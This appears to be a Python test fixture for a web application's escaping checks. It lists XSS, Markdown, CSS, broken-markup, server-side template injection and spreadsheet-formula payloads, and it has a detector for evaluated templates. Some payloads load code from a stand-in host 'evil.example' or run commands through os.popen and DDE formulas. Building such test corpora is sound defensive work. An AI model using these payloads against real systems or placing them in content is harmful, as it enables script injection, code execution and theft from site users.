"""A corpus of hostile strings: script injection in every HTML context we render into, Markdown link
tricks, broken markup, CSS expressions, server-side template injection and spreadsheet formulas.

Written for this suite. Each payload is meant to be harmless when shown as text and to run (or to
evaluate) only if some view forgets to escape or sanitise it.
"""

from __future__ import annotations

import html
import re
from urllib.parse import unquote

SCRIPT_TAGS = [
    "<script>alert(1)</script>",
    "<SCRIPT>alert(1)</SCRIPT>",
    "<scRipt>alert(document.cookie)</scRipt>",
    "<script src=//evil.example/x.js></script>",
    "<script/src=data:,alert(1)>",
    '<script type="text/javascript">alert(1)</script>',
    "<<script>alert(1);//<</script>",
    "<scr<script>ipt>alert(1)</scr</script>ipt>",
    "</script><script>alert(1)</script>",
    "<script>alert(String.fromCharCode(88,83,83))</script>",
    "\ufeff<script>alert(1)</script>",
    "<svg><script>alert(1)</script></svg>",
    "<math><mtext><table><mglyph><style><img src=x onerror=alert(1)>",
]
EVENT_HANDLERS = [
    "<img src=x onerror=alert(1)>",
    '<img src="x" onerror="alert(1)"/>',
    "<img/src/onerror=alert(1)>",
    "<img src=`x`onerror=alert(1)>",
    "<img src=1 onerror=import('//evil.example')>",
    '<img src=x onerror="&#0000106&#0000097&#0000118&#0000097&#0000115&#0000099&#0000114&#0000105&#0000112&#0000116'
    '&#0000058&#0000097&#0000108&#0000101&#0000114&#0000116&#0000040&#0000049&#0000041">',
    "<body onload=alert(1)>",
    "<svg/onload=alert(1)>",
    "<svg onload=alert(1)//",
    "<iframe/onload=alert(1)",
    "<input autofocus onfocus=alert(1)>",
    "<select autofocus onfocus=alert(1)></select>",
    "<textarea autofocus onfocus=alert(1)></textarea>",
    "<details open ontoggle=alert(1)>",
    '<details/open/ontoggle="alert`1`">',
    "<video><source onerror=alert(1)></video>",
    "<audio src=x onerror=alert(1)>",
    "<marquee onstart=alert(1)>scroll</marquee>",
    '<div onclick="alert(1)" style="position:fixed;inset:0">',
    "<a onmouseover=alert(1)>hover me</a>",
    "<p/onpointerenter=alert(1)>x",
    "<x contenteditable onblur=alert(1)>lose focus",
    "<svg><animate onbegin=alert(1) attributeName=x dur=1s>",
    "<svg><set attributeName=onmouseover to=alert(1)>",
    "<div onmouseover=alert(1)>hover</div>",
    "<form><button formaction=javascript:alert(1)>go</button></form>",
    "<keygen autofocus onfocus=alert(1)>",
    "<noscript><p title=\"</noscript><img src=x onerror=alert(1)>\">",
]
URLS = [
    '<a href="javascript:alert(1)">click</a>',
    '<a href=" javascript:alert(1)">click</a>',
    '<a href="jav&#x09;ascript:alert(1)">click</a>',
    '<a href="JaVaScRiPt:alert(1)">click</a>',
    "<IMG SRC=JaVaScRiPt:alert(1)>",
    '<a href="data:text/html;base64,PHNjcmlwdD5hbGVydCgxKTwvc2NyaXB0Pg==">x</a>',
    '<iframe src="data:text/html,<script>alert(1)</script>"></iframe>',
    "<iframe srcdoc='<script>alert(1)</script>'></iframe>",
    "<object data=javascript:alert(1)>",
    "<embed src=javascript:alert(1)>",
    "<form action=javascript:alert(1)><input type=submit></form>",
    "<isindex action=javascript:alert(1) type=image>",
    "<base href=javascript:/a/-alert(1)///////>",
    "<meta http-equiv=refresh content=0;url=javascript:alert(1)>",
    "<table background=javascript:alert(1)>",
    "<svg><a xlink:href=javascript:alert(1)><text x=20 y=20>XSS</text></a></svg>",
    "javascript:alert(1)",
    "JaVaScRiPt:alert(document.domain)",
    "data:text/html,<script>alert(1)</script>",
    "vbscript:msgbox(1)",
    '<a href="//evil.example/phish">sign in again</a>',
]
MARKDOWN = [
    "[click](javascript:alert(1))",
    "[click](JaVaScRiPt:alert(1))",
    "[click]( javascript:alert(1))",
    "[click](&#106;avascript:alert(1))",
    "[click](java\tscript:alert(1))",
    "![x](javascript:alert(1))",
    "[x](data:text/html;base64,PHNjcmlwdD5hbGVydCgxKTwvc2NyaXB0Pg==)",
    "<javascript:alert(1)>",
    "[x][ref]\n\n[ref]: javascript:alert(1)",
    "[x](vbscript:msgbox(1))",
    "```\n<script>alert(1)</script>\n```",
    "`<img src=x onerror=alert(1)>`",
    "**<img src=x onerror=alert(1)>**",
    "> <script>alert(1)</script>",
    "| a | b |\n|---|---|\n| <script>alert(1)</script> | [x](javascript:alert(1)) |",
    '[x](https://ok.example "title" onmouseover=alert(1))',
    "<div onmouseover=alert(1)>\n\nblock html\n\n</div>",
]
CSS = [
    "<style>@import 'javascript:alert(1)';</style>",
    '<div style="background:url(javascript:alert(1))">x</div>',
    '<div style="width:expression(alert(1))">x</div>',
    '<xss style="xss:expression(alert(1))">',
    "<style>body{background:red}</style>",
    "<link rel=stylesheet href=//evil.example/x.css>",
    "<link rel=import href=data:text/html,<script>alert(1)</script>>",
]
BROKEN_MARKUP = [
    '"><script>alert(1)</script>',
    "'><script>alert(1)</script>",
    "</textarea><script>alert(1)</script>",
    "</title><script>alert(1)</script>",
    "</option></select><img src=x onerror=alert(1)>",
    "<!--<script>alert(1)</script>-->",
    "--><script>alert(1)</script>",
    "<![CDATA[<script>alert(1)</script>]]>",
    '<img src="x" onerror="alert(1)"',
    "<div <script>alert(1)</script>>",
    "<a href='x' <img src=x onerror=alert(1)>>",
    '" autofocus onfocus="alert(1)',
    "' autofocus onfocus='alert(1)",
    "&lt;script&gt;alert(1)&lt;/script&gt;",
    "&#60;script&#62;alert(1)&#60;/script&#62;",
    "%3Cscript%3Ealert(1)%3C/script%3E",
    "\\u003cscript\\u003ealert(1)\\u003c/script\\u003e",
    "\u202e<script>alert(1)</script>",
]
TEMPLATES = [
    "{{7*7}}",
    "{{ 'QB' ~ 'EVAL' }}",
    "{{config}}",
    "{{ config.items() }}",
    "{{ self.__init__.__globals__.__builtins__ }}",
    "{{ ''.__class__.__mro__[1].__subclasses__() }}",
    "{% raw %}{{7*7}}{% endraw %}",
    "{% for x in range(3) %}QBLOOP{% endfor %}",
    "{{ request.environ }}",
    "{# hidden #}QBCOMMENT",
    "{{ lipsum.__globals__.os.popen('id').read() }}",
    "{{ cycler.__init__.__globals__.os }}",
    "{{7*'7'}}",
    "${7*7}",
    "#{7*7}",
    "<%= 7*7 %>",
    "[[7*7]]",
]
FORMULAS = [
    '=HYPERLINK("http://evil.example","click")',
    "+cmd|' /C calc'!A0",
    "-2+3+cmd|' /C calc'!A0",
    "@SUM(1+1)*cmd|' /C calc'!A0",
    "\t=1+1",
    "=1+1",
]

PAYLOADS: list[str] = [*SCRIPT_TAGS, *EVENT_HANDLERS, *URLS, *MARKDOWN, *CSS, *BROKEN_MARKUP, *TEMPLATES, *FORMULAS]
FORMULA_PAYLOADS = FORMULAS

# What a page would show if a template had been evaluated instead of shown as text.
EVALUATED = re.compile(r"QBEVAL|QBLOOPQBLOOP|<Config |SECRET_KEY|__builtins__'|uid=\d+|wsgi\.input|<class 'object'>")


def evaluated_template(page: str) -> list[str]:
    """Signs that a payload was evaluated by a template engine rather than shown as text."""
    text = unquote(html.unescape(page))
    found = EVALUATED.findall(text)
    if "QBCOMMENT" in text and "{# hidden #}QBCOMMENT" not in text:
        found.append("{# #} comment swallowed")
    return found
